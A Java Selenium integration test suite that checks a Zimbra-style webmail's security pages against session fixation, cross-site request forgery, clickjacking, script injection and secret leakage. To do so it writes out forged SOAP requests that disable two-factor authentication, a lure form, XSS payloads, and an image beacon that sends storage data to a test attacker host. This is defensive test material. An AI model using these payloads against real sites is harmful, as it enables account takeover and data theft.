package io.lockstep.it;

import static org.assertj.core.api.Assertions.assertThat;

import io.lockstep.it.Watch.Finding;
import io.lockstep.it.Watch.What;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import org.openqa.selenium.Cookie;

/** What an attacker with a page of their own, or at the victim's browser, does not get. */
class PageAttacksIT {
  @RegisterExtension static final Pages PAGES = Pages.with();

  private static final String SESSION = "ZM_AUTH_TOKEN";
  private static final Pattern TOKEN = Pattern.compile("0_[0-9a-f]{64}");
  private static SmallPages attacker;

  private final Browser browser = PAGES.browser();
  private final Visitor visitor = new Visitor(PAGES);

  @BeforeAll
  static void start() throws Exception {
    attacker = SmallPages.start();
  }

  @AfterAll
  static void stop() {
    attacker.close();
  }

  @BeforeEach
  void clear() {
    attacker.clear();
  }

  private Soap.Enrolled signedIn() {
    Soap.Enrolled who = visitor.enrolled();
    visitor.signIn(who, who.code(1));
    return who;
  }

  private String session() {
    return browser.driver().manage().getCookieNamed(SESSION).getValue();
  }

  private Map<String, String> cookies() {
    return browser.cookies().stream()
        .filter(cookie -> cookie.getName().startsWith("ZM_"))
        .collect(Collectors.toMap(Cookie::getName, Cookie::getValue));
  }

  // Session fixation

  @Test
  void a_cookie_that_stood_before_the_sign_in_is_not_the_session_afterwards() {
    Soap soap = PAGES.host().soap();
    String attackers = soap.login(visitor.newcomer(), Visitor.PASSWORD).session().orElseThrow();
    Soap.Enrolled victim = visitor.enrolled();
    for (String planted : List.of(attackers, "0_" + "ab".repeat(32))) {
      browser.fresh();
      visitor.open();
      browser.driver().manage().addCookie(new Cookie(SESSION, planted));
      visitor.challenged(victim.account());
      assertThat(cookies()).as("the challenge is in no cookie").isEqualTo(Map.of(SESSION, planted));
      visitor.code(victim.code(planted.equals(attackers) ? 1 : 2));
      visitor.atSecurity();

      assertThat(session()).isNotEqualTo(planted);
      assertThat(soap.info(planted).raw()).doesNotContain(victim.account());
      assertThat(browser.text("main .who")).contains(victim.account());
    }
  }

  @Test
  void a_challenge_is_kept_by_nothing_that_outlives_the_page() {
    Soap.Enrolled who = visitor.enrolled();
    visitor.challenged(who.account());
    assertThat(browser.cookies()).isEmpty();
    assertThat(stored()).isEmpty();

    browser.reload();

    browser.waitFor(Visitor.NAME_FIELD);
  }

  // Requests of other sites

  private static final String END =
      """
      {"Header":{"context":{"_jsns":"urn:zimbra"}},"Body":{"EndSessionRequest":\
      {"_jsns":"urn:zimbraAccount","logoff":true,"x":"="}}}""";
  private static final String TURN_OFF =
      """
      {"Header":{"context":{"_jsns":"urn:zimbra"}},"Body":{"DisableTwoFactorAuthRequest":\
      {"_jsns":"urn:zimbraAccount","x":"="}}}""";
  private static final String TURN_OFF_XML =
      """
      <soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>\
      <DisableTwoFactorAuthRequest xmlns="urn:zimbraAccount"/></soap:Body></soap:Envelope>""";

  private static String signInAs(String attackersAccount) {
    return """
    {"Header":{"context":{"_jsns":"urn:zimbra"}},"Body":{"AuthRequest":\
    {"_jsns":"urn:zimbraAccount","account":{"by":"name","_content":"%s"},\
    "password":{"_content":"%s"},"x":"="}}}"""
        .formatted(attackersAccount, Visitor.PASSWORD);
  }

  @Test
  void no_form_of_another_page_changes_anything() {
    String attackersAccount = visitor.newcomer();
    Soap.Enrolled who = signedIn();
    Map<String, String> before = cookies();
    // Ports share cookies, and are one site to a browser; a name of its own is another one.
    for (String from : List.of("127.0.0.1", "localhost")) {
      for (String body : List.of(END, TURN_OFF, TURN_OFF_XML)) {
        assertThat(sent(from, "text/plain", body)).contains("service.AUTH_REQUIRED");
        assertThat(cookies()).as("%s from %s", body, from).isEqualTo(before);
      }
      String signIn = signInAs(attackersAccount);
      assertThat(sent(from, "text/plain", signIn)).as("understood").contains("AuthResponse");
      assertThat(cookies()).as("signed in from %s", from).isEqualTo(before);
      for (String type : List.of("application/x-www-form-urlencoded", "multipart/form-data")) {
        assertThat(sent(from, type, signIn)).contains("Fault");
        assertThat(cookies()).as("%s from %s", type, from).isEqualTo(before);
      }
    }
    // The browser shows the answers as pages of its own making.
    browser.findings();
    unharmed(who);
  }

  /** What is answered to a form whose one field makes the message, with its name and its value. */
  private String sent(String from, String type, String body) {
    int equals = body.indexOf('=');
    String form =
        """
        <form method=post enctype="%s" action="%s"><input type=hidden name='%s' value='%s'>
        <button>Win a prize</button></form>
        """
            .formatted(
                type,
                PAGES.host().ready().get("soap"),
                body.substring(0, equals),
                body.substring(equals + 1));
    attacker.laxPage("/", form);
    browser.open(attacker.address("/").replace("127.0.0.1", from));
    browser.click("button");
    browser.until("the answer", () -> browser.url().contains("/service/soap"));
    return browser.driver().getPageSource();
  }

  @Test
  void no_script_of_another_page_changes_anything() {
    String attackersAccount = visitor.newcomer();
    Soap.Enrolled who = signedIn();
    Map<String, String> before = cookies();
    for (String from : List.of("127.0.0.1", "localhost")) {
      attacker.laxPage("/", "<h1>Prizes</h1>");
      browser.open(attacker.address("/").replace("127.0.0.1", from));
      for (String body : List.of(END, TURN_OFF, TURN_OFF_XML, signInAs(attackersAccount))) {
        browser
            .driver()
            .executeAsyncScript(
                """
                const [url, body, done] = arguments;
                const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', ''];
                const ask = (type, mode) => fetch(url, {method: 'POST', mode, credentials: 'include',
                    body: new Blob([body], {type})});
                Promise.allSettled([
                  ...types.map(type => ask(type, 'no-cors')),
                  ask('application/json', 'cors'),
                  fetch(url, {method: 'POST', mode: 'cors', credentials: 'include', body,
                      headers: {'X-Zimbra-Csrf-Token': '0_0'}}),
                  // As a page sends that is being left.
                  fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include', body,
                      keepalive: true}),
                ]).then(done);
                """,
                PAGES.host().ready().get("soap"),
                body);
      }
      // Only there its cookies are seen.
      browser.open(PAGES.user("/"));
      assertThat(cookies()).as("from %s", from).isEqualTo(before);
    }
    unharmed(who);
    // Of answers that nobody reads a browser tells no end before their page is left.
    browser.findings();
  }

  private void unharmed(Soap.Enrolled who) {
    browser.open(PAGES.user("/#/security"));
    visitor.cardSays("Second factor", "On");
    assertThat(browser.text("main .who")).contains(who.account());
  }

  @Test
  void without_its_csrf_token_not_even_the_page_itself_changes_anything() {
    Soap.Enrolled who = signedIn();
    for (String token : List.of("", "0_" + "0".repeat(64))) {
      Object answer =
          browser
              .driver()
              .executeAsyncScript(
                  """
                  const [body, token, done] = arguments;
                  fetch('/service/soap/', {method: 'POST', body,
                      headers: {'Content-Type': 'application/json', 'X-Zimbra-Csrf-Token': token}})
                      .then(answer => answer.text()).then(done, done);
                  """,
                  TURN_OFF,
                  token);
      assertThat(answer.toString()).contains("service.AUTH_REQUIRED");
    }
    unharmed(who);
  }

  @Test
  void a_page_in_the_frame_of_another_one_stays_empty() {
    signedIn();
    for (String from : List.of("127.0.0.1", "localhost")) {
      for (String path : List.of("/", "/index.html#/security")) {
        attacker.laxPage("/", "<h1>Prizes</h1><iframe src=\"" + PAGES.user(path) + "\"></iframe>");
        browser.open(attacker.address("/").replace("127.0.0.1", from));
        browser.waitFor("iframe");
        // What it loads is a page of the browser's own, that says so.
        assertThat(browser.findings())
            .extracting(Finding::words)
            .anySatisfy(words -> assertThat(words).contains("frame-ancestors"));
        browser.driver().switchTo().frame(0);
        assertThat(browser.driver().findElements(By.cssSelector("input, .card, .brand"))).isEmpty();
        browser.driver().switchTo().defaultContent();
      }
    }
  }

  // What is where

  @Test
  void nothing_at_the_users_port_administers_even_for_an_administrator() {
    String boss = visitor.newcomer("--admin");
    visitor.signIn(boss);
    assertThat(browser.driver().findElements(By.cssSelector("a, button")))
        .extracting(each -> each.getText() + " " + each.getDomAttribute("href"))
        .noneMatch(text -> text.toLowerCase(Locale.ROOT).contains("admin"));
    for (String path : List.of("/admin.html", "/service/admin/soap/", "/metrics")) {
      Object status =
          browser
              .driver()
              .executeAsyncScript(
                  """
                  const [path, done] = arguments;
                  fetch(path, {method: path.includes('soap') ? 'POST' : 'GET'})
                      .then(answer => done(answer.status));
                  """,
                  path);
      assertThat(status).as(path).isEqualTo(404L);
    }
    assertThat(browser.findings()).allSatisfy(one -> assertThat(one.words()).contains("404"));
  }

  @Test
  void what_gets_into_the_page_from_elsewhere_does_not_run() {
    visitor.open();
    List<String> ways =
        List.of(
            "const s = document.createElement('script'); s.append('window.hacked = 1');"
                + " document.body.append(s)",
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hacked=1>')",
            "document.body.setAttribute('onclick', 'hacked = 1'); document.body.click()",
            "const s = document.createElement('script'); s.src = '"
                + attacker.address("/x.js")
                + "'; document.body.append(s)",
            "const i = document.createElement('img'); i.src = '"
                + attacker.address("/x.png")
                + "?' + localStorage.length; document.body.append(i)",
            "document.body.setAttribute('style', 'display: none')");
    attacker.script("/x.js", "window.hacked = 1");
    int before = attacker.asked();
    for (String way : ways) {
      browser.evaluate("try { " + way + " } catch (refused) { console.debug(refused.message) }");
      assertThat(browser.findings()).as(way).extracting(Finding::what).contains(What.POLICY);
    }
    assertThat(browser.evaluate("return window.hacked")).isNull();
    assertThat(attacker.asked()).as("what was found out got nowhere").isEqualTo(before);
    assertThat(browser.waitFor("h1").isDisplayed()).isTrue();
  }

  // Secrets

  private List<?> stored() {
    return (List<?>)
        browser
            .driver()
            .executeAsyncScript(
                """
                const done = arguments[0];
                Promise.all([indexedDB.databases(), caches.keys()]).then(([bases, caches]) => done([
                  ...Object.entries(localStorage).flat(), ...Object.entries(sessionStorage).flat(),
                  ...bases.map(base => base.name), ...caches, document.cookie, name,
                  JSON.stringify(history.state ?? '')].filter(one => one && one !== '""')));
                """);
  }

  @Test
  void no_secret_stays_in_the_browser_or_gets_into_an_address_or_a_log() {
    Soap.Enrolled who = visitor.enrolled();
    Map<String, String> secrets = new LinkedHashMap<>();
    secrets.put("password", Visitor.PASSWORD);
    secrets.put("code", who.code(1));
    visitor.open();
    // The page's own answers, as a script in it would see them.
    browser.evaluate(
        """
        const send = fetch;
        window.answers = [];
        window.fetch = (...asked) => send(...asked).then(answer => {
          answer.clone().text().then(text => window.answers.push(text));
          return answer;
        });
        """);
    visitor.password(who.account(), Visitor.PASSWORD);
    browser.click("main .tick label");
    visitor.code(who.code(1));
    visitor.atSecurity();
    visitor.pressIn("App passwords", "Make an app password");
    browser.type(Visitor.IN_DIALOG + "input[maxlength]", "Laptop");
    visitor.pressInDialog("Make an app password");
    secrets.put("app password", browser.text(Visitor.IN_DIALOG + ".key"));
    visitor.pressInDialog("Close");
    visitor.told("The app password is made.");
    visitor.pressIn("Authenticator apps", "Replace by a new phone");
    browser.type(Visitor.PASSWORD_FIELD, Visitor.PASSWORD);
    visitor.send();
    String secret = browser.text("main .key").replaceAll("\\s", "");
    secrets.put("key", secret);
    visitor.press("The account is in the app");
    String code = Oathtool.code(secret, System.currentTimeMillis() / 1000);
    secrets.put("second code", code);
    visitor.code(code);
    List<String> recoveryCodes = browser.text("main .recovery").lines().toList();
    recoveryCodes.forEach(one -> secrets.put("recovery code " + one, one));
    browser.click("main .tick label");
    visitor.press("Done");
    visitor.atSecurity();
    tokens().forEach(token -> secrets.put("token " + token, token));
    cookies().forEach(secrets::put);
    assertThat(secrets).hasSizeGreaterThan(18);

    List<String> places = new ArrayList<>(stored().stream().map(Object::toString).toList());
    places.addAll(browser.requests());
    places.add(browser.url());
    places.add(browser.evaluate("return document.documentElement.outerHTML").toString());
    places.add(Product.text(PAGES.host().log()));
    places.add(Product.text(PAGES.data().resolve("log/audit.log")));
    assertThat(places.get(places.size() - 2)).contains(who.account());
    secrets.forEach(
        (what, text) -> {
          Pattern whole =
              Pattern.compile("(?<![0-9A-Za-z])" + Pattern.quote(text) + "(?![0-9A-Za-z])");
          assertThat(places).as(what).noneMatch(place -> whole.matcher(place).find());
        });
  }

  /** Every token the page was given, but for the one against requests of other sites. */
  private Set<String> tokens() {
    String all = browser.evaluate("return window.answers").toString();
    return TOKEN
        .matcher(all.replaceAll("\"csrfToken\":[^}]*}", ""))
        .results()
        .map(MatchResult::group)
        .collect(Collectors.toSet());
  }
}
